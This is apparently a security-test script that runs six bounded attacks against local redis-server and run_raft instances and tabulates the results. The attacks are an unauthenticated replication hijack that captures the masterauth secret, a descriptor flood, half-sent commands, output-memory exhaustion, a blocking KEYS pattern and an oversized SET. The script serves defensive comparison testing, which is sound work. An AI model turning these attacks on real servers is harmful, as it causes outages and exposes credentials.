#!/usr/bin/env python3
"""The client-side attacks of the security issue, run side by side against redis-server and
run_raft on loopback, each with its defaults and with a password; prints one table.

    tools/attacks_vs_redis.py [RUN_RAFT_BINARY]      (default build/examples/run_raft)

Each attack starts a fresh server (under `prlimit --nofile` where the attack needs it), runs
bounded in count and time, and stops the server by its PID. What each row shows:
  admin        an unauthenticated loopback client asks the node to follow an address of its
               choosing (REPLICAOF / RAFT.ADD) and a listener there records what it receives
  fd-flood     300 idle clients under a 256-descriptor limit, then a save and a write
  half-command 50 clients that each send half a command, and how many are open after the wait
  output-mem   3 clients pipeline 60 GETs of a 4 MB value and read nothing: server RSS growth
  keys         KEYS with an unclosed 10k-long class over 100k keys: how long a PING waits
  big-command  one SET with a 100 MB value
The peer-port attacks (terms, appends, snapshots, unauthenticated peer floods) have no Redis
counterpart in a single redis-server; they are tests in tests/test_peer_input.cpp,
tests/test_peer_auth.cpp and tests/test_runtime.cpp.
"""
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

RUN_RAFT = sys.argv[1] if len(sys.argv) > 1 else "build/examples/run_raft"
PASSWORD = "attack-table-pw"


def free_port():
    # Two consecutive free ports (run_raft uses PORT and PORT + 1).
    while True:
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
        s.close()
        if port < 65000:
            t = socket.socket()
            try:
                t.bind(("127.0.0.1", port + 1))
                return port
            except OSError:
                pass
            finally:
                t.close()


def encode(*words):
    out = b"*%d\r\n" % len(words)
    for w in words:
        w = w if isinstance(w, bytes) else str(w).encode()
        out += b"$%d\r\n%s\r\n" % (len(w), w)
    return out


class Conn:
    def __init__(self, port, timeout=10.0):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.buf = b""

    def _line(self):
        while b"\r\n" not in self.buf:
            chunk = self.s.recv(1 << 20)
            if not chunk:
                raise ConnectionError("closed")
            self.buf += chunk
        line, self.buf = self.buf.split(b"\r\n", 1)
        return line

    def _exact(self, n):
        while len(self.buf) < n + 2:
            chunk = self.s.recv(1 << 20)
            if not chunk:
                raise ConnectionError("closed")
            self.buf += chunk
        data, self.buf = self.buf[:n], self.buf[n + 2:]
        return data

    def reply(self):
        line = self._line()
        kind, rest = line[:1], line[1:]
        if kind in (b"+", b"-", b":"):
            return line.decode(errors="replace")
        if kind == b"$":
            n = int(rest)
            return None if n < 0 else self._exact(n)
        if kind == b"*":
            n = int(rest)
            return [self.reply() for _ in range(max(n, 0))]
        return line.decode(errors="replace")

    def call(self, *words):
        self.s.sendall(encode(*words))
        return self.reply()

    def close(self):
        self.s.close()


class Server:
    """redis-server or run_raft, on a fresh port and directory, optionally with a password."""

    def __init__(self, kind, password=None, nofile=None):
        self.kind, self.password = kind, password
        self.dir = tempfile.mkdtemp(prefix="attack-%s-" % kind)
        self.port = free_port()
        if kind == "redis":
            cmd = ["redis-server", "--port", str(self.port), "--bind", "127.0.0.1", "--dir", self.dir,
                   "--save", "", "--appendonly", "no"]
            if password:
                cmd += ["--requirepass", password]
        else:
            cmd = [RUN_RAFT, "-i", "1", "-a", "127.0.0.1:%d" % self.port, "-d", os.path.join(self.dir, "data"),
                   "--loglevel", "warning"]
            if password:
                cmd += ["--requirepass", password]
        if nofile:
            cmd = ["prlimit", "--nofile=%d:%d" % (nofile, nofile), "--"] + cmd
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.time() + 20
        while time.time() < deadline:
            try:
                c = self.client()
                if c.call("SET", "ready", "1") == "+OK":
                    c.close()
                    return
                c.close()
            except (OSError, ConnectionError):
                pass
            time.sleep(0.05)
        raise RuntimeError("%s did not start" % kind)

    def client(self):
        c = Conn(self.port)
        if self.password:
            c.call("AUTH", self.password)
        return c

    def rss_kb(self):
        pid = self.proc.pid
        # prlimit execs the server in place, so the PID is the server's.
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
        return 0

    def alive(self):
        return self.proc.poll() is None

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGKILL)
        self.proc.wait()
        shutil.rmtree(self.dir, ignore_errors=True)


def listener():
    """A socket that records the first bytes anyone sends it."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    port = free_port()
    s.bind(("127.0.0.1", port))
    s.listen(16)
    got = []

    def run():
        deadline = time.time() + 4
        try:
            while time.time() < deadline:
                s.settimeout(max(0.01, deadline - time.time()))
                c, _ = s.accept()
                c.settimeout(1)
                try:
                    first = c.recv(4096)
                    got.append(first)
                    # Answer a replica's PING, to see what it sends next (Redis: AUTH).
                    if first.startswith(b"*1\r\n$4\r\nPING"):
                        c.sendall(b"+PONG\r\n")
                        got.append(c.recv(4096))
                except OSError:
                    pass
                c.close()
        except OSError:
            pass

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return s, port, got, t


def short(r):
    if isinstance(r, bytes):
        r = r.decode(errors="replace")
    r = " ".join(str(r).split())
    return r if len(r) <= 48 else r[:45] + "..."


# ---- the attacks ---------------------------------------------------------------------------

def attack_admin(kind, password):
    srv = Server(kind, password)
    try:
        c = Conn(srv.port)  # no AUTH: a stranger on loopback
        s, lport, got, t = listener()
        if kind == "redis":
            c.call("CONFIG", "SET", "masterauth", "secret-of-the-cluster")
            r = c.call("REPLICAOF", "127.0.0.1", lport)
        else:
            r = c.call("RAFT.ADD", "evil", "127.0.0.1:%d" % (lport - 1))
        t.join()
        s.close()
        seen = b" / ".join(g[:60] for g in got[:3] if g)
        return "%s; listener got: %s" % (short(r), short(seen) if seen else "nothing")
    finally:
        srv.stop()


def attack_fd_flood(kind, password):
    srv = Server(kind, password, nofile=256)
    conns = []
    try:
        refused = 0
        for _ in range(300):
            try:
                conns.append(socket.create_connection(("127.0.0.1", srv.port), timeout=2))
            except OSError:
                refused += 1
        # The first client of the flood, accepted long before the limit, saves and writes.
        c = Conn.__new__(Conn)
        c.s, c.buf = conns[0], b""
        c.s.settimeout(10)
        if password:
            c.call("AUTH", password)
        save = c.call("BGSAVE" if kind == "redis" else "CHECKPOINT")
        if kind == "redis":
            time.sleep(1)
            save += " (then %s)" % c.call("INFO", "persistence").decode().split("rdb_last_bgsave_status:")[1].split()[0]
        w = c.call("SET", "after-flood", "1")
        try:
            last = Conn.__new__(Conn)
            last.s, last.buf = conns[-1], b""
            last.s.settimeout(3)
            extra = short(last.call("PING"))
        except (OSError, ConnectionError) as e:
            extra = "no answer (%s)" % e
        return "save: %s; write: %s; client 300: %s" % (short(save), short(w), extra)
    except (OSError, ConnectionError) as e:
        return "error: %s" % e
    finally:
        for s in conns:
            s.close()
        srv.stop()


def attack_half_command(kind, password, wait_s):
    srv = Server(kind, password)
    conns = []
    try:
        for _ in range(50):
            s = socket.create_connection(("127.0.0.1", srv.port), timeout=2)
            s.sendall(b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$100\r\nhalf")
            conns.append(s)
        time.sleep(wait_s)
        still = 0
        for s in conns:
            s.setblocking(False)
            try:
                data = s.recv(1)
                still += 0 if data == b"" else 1
            except BlockingIOError:
                still += 1
            except OSError:
                pass
        return "%d of 50 still open after %d s" % (still, wait_s)
    finally:
        for s in conns:
            s.close()
        srv.stop()


def attack_output_memory(kind, password):
    srv = Server(kind, password)
    conns = []
    try:
        c = srv.client()
        c.call("SET", "big", b"x" * (4 << 20))
        before = srv.rss_kb()
        for _ in range(3):
            s = socket.create_connection(("127.0.0.1", srv.port), timeout=5)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            pre = encode("AUTH", password) if password else b""
            s.sendall(pre + encode("GET", "big") * 60)
            conns.append(s)
        peak = before
        deadline = time.time() + 6
        while time.time() < deadline:
            peak = max(peak, srv.rss_kb())
            time.sleep(0.1)
        alive = c.call("PING")
        return "RSS +%d MB; other client: %s" % ((peak - before) // 1024, short(alive))
    finally:
        for s in conns:
            s.close()
        srv.stop()


def attack_keys(kind, password):
    srv = Server(kind, password)
    try:
        c = srv.client()
        for base in range(0, 100000, 10000):
            words = ["MSET"]
            for i in range(base, base + 10000):
                words += ["key:%06d" % i, "v"]
            c.call(*words)
        pattern = "[" + "b" * 10000
        t0 = time.time()
        done = {}

        def keys():
            k = srv.client()
            k.s.settimeout(120)
            done["reply"] = k.call("KEYS", pattern)
            done["t"] = time.time() - t0

        th = threading.Thread(target=keys)
        th.start()
        time.sleep(0.05)
        p0 = time.time()
        c.s.settimeout(120)
        c.call("PING")
        ping = time.time() - p0
        th.join()
        return "KEYS %.2f s; a PING meanwhile waited %.2f s" % (done.get("t", -1), ping)
    finally:
        srv.stop()


def attack_big_command(kind, password):
    srv = Server(kind, password)
    try:
        c = srv.client()
        c.s.settimeout(60)
        try:
            r = c.call("SET", "huge", b"v" * (100 << 20))
        except (OSError, ConnectionError) as e:
            r = "connection: %s" % e
        after = srv.client().call("PING") if srv.alive() else "server gone"
        return "%s; then: %s" % (short(r), short(after))
    finally:
        srv.stop()


def main():
    wait_s = int(os.environ.get("HALF_COMMAND_WAIT", "35"))
    rows = [
        ("admin", attack_admin),
        ("fd-flood", attack_fd_flood),
        ("half-command", lambda k, p: attack_half_command(k, p, wait_s)),
        ("output-mem", attack_output_memory),
        ("keys", attack_keys),
        ("big-command", attack_big_command),
    ]
    targets = [("redis", None, "Redis 7 defaults"), ("redis", PASSWORD, "Redis 7 requirepass"),
               ("raft", None, "raft.hpp defaults"), ("raft", PASSWORD, "raft.hpp requirepass")]
    print("| attack | " + " | ".join(t[2] for t in targets) + " |")
    print("|---" * (len(targets) + 1) + "|")
    for name, fn in rows:
        cells = []
        for kind, pw, _ in targets:
            try:
                cells.append(fn(kind, pw))
            except Exception as e:  # a row that breaks says so and the table goes on
                cells.append("error: %s" % short(e))
        print("| %s | %s |" % (name, " | ".join(cells)), flush=True)


if __name__ == "__main__":
    main()
